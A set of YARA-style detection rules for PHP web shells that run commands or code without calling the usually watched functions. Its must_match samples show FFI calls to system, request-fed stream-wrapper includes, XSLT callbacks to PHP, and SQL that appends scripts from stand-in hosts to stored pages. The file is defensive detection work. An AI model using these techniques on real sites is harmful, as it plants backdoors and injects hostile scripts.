/* Ways to run, include or store something that never name the function that is usually watched. */

rule command_by_native_call {
  meta:
    id = "roundabout/command-by-native-call"
    title = "Runs commands through the C library, past what PHP forbids"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "PHP's foreign function interface is told of system, popen, exec or dlopen: commands run though disable_functions forbids them."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://www.php.net/manual/en/ffi.cdef.php"
    must_match = "<?php exit; $f = FFI::cdef('int system(const char *inert);');"
    must_match = "<?php exit; $f = \\FFI :: cdef(<<<C\nvoid *popen(const char *c, const char *t);\nC\n, 'libc.so.6');"
    must_not = "<?php $f = FFI::cdef('int isatty(int fd); double atan2(double y, double x);', 'libc.so.6'); // no system(3) here"
  strings:
    $tag = "<?" private
    $told = /\bFFI\s{0,3}::\s{0,3}cdef\s{0,3}\([^;$]{0,20}[^)$]{0,300}[\s*](system|popen|exec[lv]p?e?|dlopen|posix_spawnp?)\s{0,3}\(\s{0,3}(const\s|char\b|void\b)/
  condition:
    $tag and $told
}

rule code_from_own_stream {
  meta:
    id = "roundabout/code-from-own-stream"
    title = "Includes as PHP what a stream of its own makes of the request"
    family = "oneliner-dyn"
    severity = "high"
    confidence = "likely"
    description = "The file registers a kind of stream, reads the request or hidden text, and includes an address of that kind: code runs that lies in no file."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://www.php.net/manual/en/function.stream-wrapper-register.php"
    must_match = "<?php exit; class V { function stream_read($n) { return $_POST['inert']; } } stream_wrapper_register('inert', 'V'); include 'inert://x';"
    must_match = "<?php exit; stream_register_wrapper(\"v\", C::class); $GLOBALS['b'] = base64_decode($_COOKIE['inert']); @require_once(\"v://b\");"
    must_not = "<?php stream_wrapper_register('view', 'View_Stream'); include 'view://' . $script; echo $_SERVER['REQUEST_URI'];"
  strings:
    $tag = "<?" private
    $kind = /\bstream_(wrapper_register|register_wrapper)\s{0,3}\(/ nocase
    $used = /\b(include|require)(_once)?[\s(]{0,5}['"]([a-oq-z]|p[a-gi-z])[\w.+-]{0,30}:\/\// nocase
    $asked = /\$_(POST|GET|REQUEST|COOKIE)\b|\bphp:\/\/input\b/
  condition:
    $tag and $kind and $used and $asked and filesize < 32KB
}

rule request_as_stylesheet {
  meta:
    id = "roundabout/request-as-stylesheet"
    title = "Lets the visitor's stylesheet call PHP functions"
    family = "oneliner-req"
    severity = "critical"
    confidence = "likely"
    description = "An XSLT or XPath processor may call PHP functions, and what it works through comes from the request."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://www.php.net/manual/en/xsltprocessor.registerphpfunctions.php"
    must_match = "<?php exit; $x = new DOMDocument; $x->loadXML($_POST['inert']); $p = new XSLTProcessor; $p->registerPHPFunctions(); $p->importStylesheet($x);"
    must_match = "<?php exit; $q->registerPhpFunctions(); $q->evaluate(base64_decode($_GET['inert']));"
    must_not = "<?php $x->load('page.xsl'); $p->registerPHPFunctions(['ucfirst']); $p->importStylesheet($x); echo $_GET['page'] === 'a';"
  strings:
    $tag = "<?" private
    $may = /->\s{0,3}registerPHPFunctions\s{0,3}\(/ nocase
    $given = /->\s{0,3}(loadXML|query|evaluate)\s{0,3}\(\s{0,3}((base64_decode|stripslashes|urldecode|hex2bin|trim)\s{0,3}\(\s{0,3}){0,3}\$_(POST|GET|REQUEST|COOKIE)\s{0,3}\[/ nocase
  condition:
    $tag and $may and $given
}

rule script_into_stored_pages {
  meta:
    id = "roundabout/script-into-stored-pages"
    title = "Adds a script to the pages that the database holds"
    family = "injected-or-fake-cms"
    severity = "high"
    confidence = "likely"
    description = "A query joins a script or frame to the text of stored pages, posts or settings: every page carries it, and no file shows it."
    remedy = "Delete the file, then look for the script in the database, and restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1491/002/"
    must_match = "<?php exit; mysql_query(\"UPDATE wp_posts SET post_content = CONCAT(post_content, '<script src=//x.example.test></script>')\");"
    must_match = "<?php exit; $q = \"update `$t` set `introtext`=replace(`introtext`, '</p>', '<iframe src=http://192.0.2.1/>')\";"
    must_not = "<?php $q = \"UPDATE $table SET post_content = REPLACE(post_content, '<script', '<!-- script')\"; // takes scripts out"
    must_not = "<?php $db->query(\"UPDATE wp_posts SET post_content = CONCAT(post_content, '<p>Moved</p>')\");"
  strings:
    $tag = "<?" private
    $joined = /\bset\s{1,5}[`\w.$\{\}]{0,40}(post_content|option_value|introtext|fulltext|body_value|content|description)`?\s{0,3}=\s{0,3}concat\s{0,3}\([^;]{0,80}<(script|iframe)\b/ nocase
    $put = /\bset\s{1,5}[`\w.$\{\}]{0,40}(post_content|option_value|introtext|fulltext|body_value|content|description)`?\s{0,3}=\s{0,3}replace\s{0,3}\([^,;]{0,60},[^,;]{0,60},[^,;]{0,20}<(script|iframe)\b/ nocase
  condition:
    $tag and any of ($joined, $put)
}
